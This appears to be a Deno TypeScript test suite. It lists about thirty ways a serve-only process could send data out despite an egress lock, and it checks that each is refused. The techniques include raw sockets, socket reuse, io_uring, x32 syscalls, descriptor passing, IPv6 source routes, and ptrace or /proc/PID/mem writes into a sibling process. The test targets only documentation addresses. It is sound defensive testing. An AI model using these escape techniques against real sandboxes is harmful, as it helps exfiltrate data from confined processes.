/**
 * Ways out of a process that only serves, each tried with and without the lock.
 *
 * @module
 */
import { openRing, type Ring, sendByRing } from "./io_uring.ts";
import {
  addressOf,
  bytesOf,
  call,
  inet,
  numberOf,
  sys,
  sysElsewhere,
  unix,
  unspec,
  words,
} from "./system.ts";

/** TEST-NET-3 of RFC 5737; the stage's namespace holds it, and nothing leads out of there. */
export const FAR = "203.0.113.5";
export const FAR_PORT = 9443;

/** The interface of the namespace that is no loopback, and a neighbour there: RFC 3849 and RFC 5737 set them aside. */
export const WIRE = "wire0";
export const WIRE_FAR = "198.51.100.5";
const WIRE_FAR6 = [0x20, 0x01, 0x0d, 0xb8, ...new Uint8Array(11), 5];
export const WIRE_FAR6_TEXT = "2001:db8::5";

const openMemory = (pid: number): number => sys("openat", AT_FDCWD, bytesOf(`/proc/${pid}/mem\0`), O_RDWR, 0);

/** What an attack may use: all of it exists before the lock. */
export interface Scene {
  /** The listener's descriptor, and that of a client that it accepted. */
  readonly listener: number;
  readonly accepted: number;
  /** A process of the same user, outside the lock; `address` holds 8 bytes that it will send, `socket` a connection. */
  readonly sibling: { readonly pid: number; readonly address: bigint; readonly socket: number };
  /** Paths of Unix sockets that another process serves. */
  readonly streamPath: string;
  readonly datagramPath: string;
}

/** One way. */
export interface Attack {
  readonly name: string;
  /** What it has before the lock is taken. */
  readonly before?: (scene: Scene) => unknown;
  /** Must leave the mark with the stage. */
  readonly run: (scene: Scene, before: unknown) => void | Promise<void>;
  /** What it says under the lock. `E` stands for the test's own errno. */
  readonly refused: string;
  /** How the lock is taken: `filter` leaves out the look at descriptors, to see the filter alone. Default `lock`. */
  readonly how?: "lock" | "filter";
  /** Where it listens; over `unix` the stage hands it a connected descriptor. Default `ipv4`. */
  readonly home?: "ipv4" | "ipv6" | "unix";
  /** What it sends must be looked for on the wire of the namespace: it needs `ip`. */
  readonly wire?: true;
}

/** What must not arrive, by the mode of the attempt; eight bytes, so that one word of memory holds it. */
export const MARKS: Readonly<Record<string, string>> = { open: "LEAKOPEN", locked: "LEAKLOCK" };
const MARK = MARKS[Deno.args[1] ?? ""] ?? "";

const AF_UNIX = 1;
const AF_INET = 2;
const STREAM = 1;
const DATAGRAM = 2;
const MPTCP = 262;
const MSG_FASTOPEN = 0x2000_0000;
const SHUT_RDWR = 2;
const SOL_SOCKET = 1;
const SO_BINDTODEVICE = 25;
const IPPROTO_IPV6 = 41;
const IPV6_RTHDR = 57;
const AT_FDCWD = -100;
const O_RDWR = 2;

const far = () => inet(FAR, FAR_PORT);
const mark = () => bytesOf(MARK);
const write = (descriptor: number): void => void sys("write", descriptor, mark(), MARK.length);

function connectAndWrite(descriptor: number): void {
  sys("connect", descriptor, far(), 16);
  write(descriptor);
}

/** Makes a socket that served into one that may connect. */
function loosen(descriptor: number): void {
  sys("connect", descriptor, unspec(), 16);
  sys("bind", descriptor, inet("0.0.0.0", 0), 16);
}

const sendFastOpen = (descriptor: number): void =>
  void sys("sendto", descriptor, mark(), MARK.length, MSG_FASTOPEN, far(), 16);

/** `struct msghdr` with one buffer; the parts must outlive the call, hence the callback. */
function withMessage(
  to: Uint8Array<ArrayBuffer> | undefined,
  use: (message: Uint8Array<ArrayBuffer>) => void,
): void {
  const payload = mark();
  const vector = words(addressOf(payload), payload.length);
  use(words(to === undefined ? 0n : addressOf(to), to?.length ?? 0, addressOf(vector), 1, 0, 0, 0));
}

/** Takes a descriptor out of a message that waits on the accepted connection. */
function receive(accepted: number, by: "recvmsg" | "recvmmsg"): number {
  const control = new Uint8Array(64);
  const payload = new Uint8Array(8);
  const vector = words(addressOf(payload), payload.length);
  const message = words(0, 0, addressOf(vector), 1, addressOf(control), control.length, 0, 0);
  if (by === "recvmsg") sys("recvmsg", accepted, message, 0);
  else sys("recvmmsg", accepted, message, 1, 0, 0);
  return new DataView(control.buffer).getInt32(16, true);
}

const descriptorOf = (before: unknown): number => {
  if (typeof before !== "number") throw new TypeError("no descriptor");
  return before;
};

export const ATTACKS: readonly Attack[] = [
  {
    name: "a new TCP connection",
    run: () => connectAndWrite(sys("socket", AF_INET, STREAM, 0)),
    refused: "socket: E",
  },
  {
    name: "a new TCP connection from another thread",
    before: () => sysElsewhere("getsockname", -1, 0, 0).catch(() => {}),
    run: async () => {
      const descriptor = await sysElsewhere("socket", AF_INET, STREAM, 0);
      connectAndWrite(descriptor);
    },
    refused: "socket: refused",
  },
  {
    name: "a new TCP connection of JavaScript's",
    run: async () => {
      const connection = await Deno.connect({ hostname: FAR, port: FAR_PORT });
      await connection.write(mark());
    },
    refused: "Unknown error E (os error E)",
  },
  {
    name: "a new TCP connection of a child",
    run: async () => {
      const script =
        `use Socket; socket(S, AF_INET, SOCK_STREAM, 0) or do { print 0 + $!; exit }; connect(S, sockaddr_in(${FAR_PORT}, inet_aton("${FAR}"))); syswrite S, "${MARK}"`;
      const { stdout } = await new Deno.Command("/usr/bin/perl", { args: ["-e", script], clearEnv: true })
        .output();
      const said = new TextDecoder().decode(stdout);
      if (said !== "") throw new Error(`child: ${said}`);
    },
    refused: "child: E",
  },
  {
    name: "a new MPTCP connection",
    run: () => connectAndWrite(sys("socket", AF_INET, STREAM, MPTCP)),
    refused: "socket: E",
  },
  {
    name: "a new UDP socket",
    run: () => {
      const descriptor = sys("socket", AF_INET, DATAGRAM, 0);
      sys("sendto", descriptor, mark(), MARK.length, 0, far(), 16);
    },
    refused: "socket: E",
  },
  {
    name: "a Unix socket of another program",
    run: ({ streamPath }) => {
      const descriptor = sys("socket", AF_UNIX, STREAM, 0);
      sys("connect", descriptor, unix(streamPath), 110);
      write(descriptor);
    },
    refused: "socket: E",
  },
  {
    name: "a pair of Unix datagram sockets, with a receiver named in the message",
    run: ({ datagramPath }) => {
      const pair = new Uint8Array(8);
      sys("socketpair", AF_UNIX, DATAGRAM, 0, pair);
      const to = unix(datagramPath);
      withMessage(to, (message) => sys("sendmsg", new DataView(pair.buffer).getInt32(0, true), message, 0));
    },
    refused: "socketpair: E",
  },
  {
    name: "the listener, by connect(AF_UNSPEC)",
    run: ({ listener }) => {
      loosen(listener);
      connectAndWrite(listener);
    },
    refused: "connect: E",
  },
  {
    name: "the listener, by shutdown",
    run: ({ listener }) => {
      sys("shutdown", listener, SHUT_RDWR);
      loosen(listener);
      connectAndWrite(listener);
    },
    refused: "connect: E",
  },
  {
    name: "an accepted connection, by connect(AF_UNSPEC)",
    run: ({ accepted }) => {
      loosen(accepted);
      connectAndWrite(accepted);
    },
    refused: "connect: E",
  },
  {
    name: "an accepted connection, by connect(AF_UNSPEC) and sendto(MSG_FASTOPEN)",
    run: ({ accepted }) => {
      loosen(accepted);
      sendFastOpen(accepted);
    },
    refused: "connect: E",
  },
  {
    name: "an accepted connection, by connect(AF_UNSPEC) and sendmsg(MSG_FASTOPEN)",
    run: ({ accepted }) => {
      loosen(accepted);
      const to = far();
      withMessage(to, (message) => sys("sendmsg", accepted, message, MSG_FASTOPEN));
    },
    refused: "connect: E",
  },
  {
    name: "sendto(MSG_FASTOPEN) on a socket that was opened before",
    before: () => sys("socket", AF_INET, STREAM, 0),
    run: (_, before) => sendFastOpen(descriptorOf(before)),
    refused: "sendto: E",
    how: "filter",
  },
  {
    name: "sendmsg(MSG_FASTOPEN) on a socket that was opened before",
    before: () => sys("socket", AF_INET, STREAM, 0),
    run: (_, before) => {
      const to = far();
      withMessage(to, (message) => sys("sendmsg", descriptorOf(before), message, MSG_FASTOPEN));
    },
    refused: "sendmsg: E",
    how: "filter",
  },
  {
    name: "sendto on a UDP socket that was opened before",
    before: () => sys("socket", AF_INET, DATAGRAM, 0),
    run: (_, before) => void sys("sendto", descriptorOf(before), mark(), MARK.length, 0, far(), 16),
    refused: "sendto: E",
    how: "filter",
  },
  {
    name: "sendmsg on a UDP socket that was opened before",
    before: () => sys("socket", AF_INET, DATAGRAM, 0),
    run: (_, before) => {
      const to = far();
      withMessage(to, (message) => sys("sendmsg", descriptorOf(before), message, 0));
    },
    refused: "Cannot take the egress lock: descriptor N is a socket (IPv4)",
  },
  {
    name: "a pooled connection",
    before: () => {
      const descriptor = sys("socket", AF_INET, STREAM, 0);
      sys("connect", descriptor, far(), 16);
      return descriptor;
    },
    run: (_, before) => write(descriptorOf(before)),
    refused: `Cannot take the egress lock: descriptor N is a socket (IPv4) connected to ${FAR}:${FAR_PORT}`,
  },
  {
    name: "a second listener",
    before: () => {
      const descriptor = sys("socket", AF_INET, STREAM, 0);
      sys("bind", descriptor, inet("127.0.0.1", 0), 16);
      sys("listen", descriptor, 1);
      return descriptor;
    },
    run: (_, before) => {
      loosen(descriptorOf(before));
      connectAndWrite(descriptorOf(before));
    },
    refused: "Cannot take the egress lock: descriptor N is a socket (IPv4) that listens at 127.0.0.1:N",
  },
  {
    name: "io_uring",
    run: () => sendByRing(openRing(false), FAR, FAR_PORT, MARK),
    refused: "io_uring_setup: 38",
  },
  {
    name: "io_uring with a ring that was made before",
    before: () => openRing(false),
    run: (_, before) => sendByRing(before as Ring, FAR, FAR_PORT, MARK), // what `before` made
    refused: "io_uring_enter: 38",
    how: "filter",
  },
  {
    name: "io_uring with a ring that a kernel thread polls",
    before: () => openRing(true),
    run: (_, before) => sendByRing(before as Ring, FAR, FAR_PORT, MARK), // what `before` made
    refused: "Cannot take the egress lock: descriptor N is an io_uring",
  },
  {
    name: "x32's numbers",
    run: () => {
      const x32 = (name: "socket" | "connect") => 0x4000_0000 + numberOf(name);
      const descriptor = call("socket", x32("socket"), AF_INET, STREAM, 0);
      call("connect", x32("connect"), descriptor, far(), 16);
      write(descriptor);
    },
    refused: "socket: 38",
  },
  {
    name: "a descriptor passed by a client, taken with recvmsg",
    home: "unix",
    run: ({ accepted }) => write(receive(accepted, "recvmsg")),
    refused: "recvmsg: E",
  },
  {
    name: "a descriptor passed by a client, taken with recvmmsg",
    home: "unix",
    run: ({ accepted }) => write(receive(accepted, "recvmmsg")),
    refused: "recvmmsg: E",
  },
  {
    // The kernel then sends the connection's packets to the first stop of the route, from ::1 and to whom it may concern.
    name: "an accepted IPv6 connection, by a source route",
    home: "ipv6",
    wire: true,
    run: ({ accepted }) => {
      const header = new Uint8Array([0, 4, 4, 1, 1, 0, 0, 0, ...new Uint8Array(15), 1, ...WIRE_FAR6]);
      sys("setsockopt", accepted, IPPROTO_IPV6, IPV6_RTHDR, header, header.length);
      write(accepted);
    },
    refused: "setsockopt: E",
  },
  {
    // Where route_localnet is on, as on nodes of Kubernetes.
    name: "an accepted connection, by SO_BINDTODEVICE",
    wire: true,
    run: ({ accepted }) => {
      const name = bytesOf(`${WIRE}\0`);
      sys("setsockopt", accepted, SOL_SOCKET, SO_BINDTODEVICE, name, name.length);
      write(accepted);
    },
    refused: "setsockopt: E",
  },
  {
    name: "a sibling's descriptor, by pidfd_getfd",
    run: ({ sibling }) => {
      const process = sys("pidfd_open", sibling.pid, 0);
      write(sys("pidfd_getfd", process, sibling.socket, 0));
    },
    refused: "pidfd_getfd: E",
  },
  {
    name: "a sibling's memory, by process_vm_writev",
    run: ({ sibling }) => {
      const payload = mark();
      const local = words(addressOf(payload), payload.length);
      const remote = words(sibling.address, payload.length);
      sys("process_vm_writev", sibling.pid, local, 1, remote, 1, 0);
    },
    refused: "process_vm_writev: E",
  },
  {
    name: "a sibling's memory, by ptrace",
    run: ({ sibling }) => {
      const [ATTACH, POKE, DETACH] = [16, 5, 17];
      sys("ptrace", ATTACH, sibling.pid, 0, 0);
      sys("wait4", sibling.pid, 0, 0x4000_0000, 0);
      sys("ptrace", POKE, sibling.pid, sibling.address, new DataView(mark().buffer).getBigUint64(0, true));
      sys("ptrace", DETACH, sibling.pid, 0, 0);
    },
    refused: "ptrace: E",
  },
  {
    // The filter sees no paths, but it sees positions in files, which here are addresses.
    name: "a sibling's memory, by /proc/PID/mem",
    run: ({ sibling }) => {
      sys("pwrite64", openMemory(sibling.pid), mark(), MARK.length, sibling.address);
    },
    refused: "pwrite64: E",
  },
  {
    name: "a sibling's memory, by /proc/PID/mem and a vector",
    run: ({ sibling }) => {
      const payload = mark();
      const vector = words(addressOf(payload), payload.length);
      sys("pwritev", openMemory(sibling.pid), vector, 1, sibling.address, 0);
    },
    refused: "pwritev: E",
  },
  {
    name: "a sibling's memory, by /proc/PID/mem and a seek",
    run: ({ sibling }) => {
      const file = openMemory(sibling.pid);
      sys("lseek", file, sibling.address, 0);
      sys("write", file, mark(), MARK.length);
    },
    refused: "lseek: E",
  },
  {
    name: "a sibling's memory, by /proc/PID/mem and seeks from where it stands",
    run: ({ sibling }) => {
      const file = openMemory(sibling.pid);
      for (const part of [sibling.address / 2n, sibling.address - sibling.address / 2n]) {
        sys("lseek", file, part, 1);
      }
      sys("write", file, mark(), MARK.length);
    },
    refused: "lseek: E",
  },
];
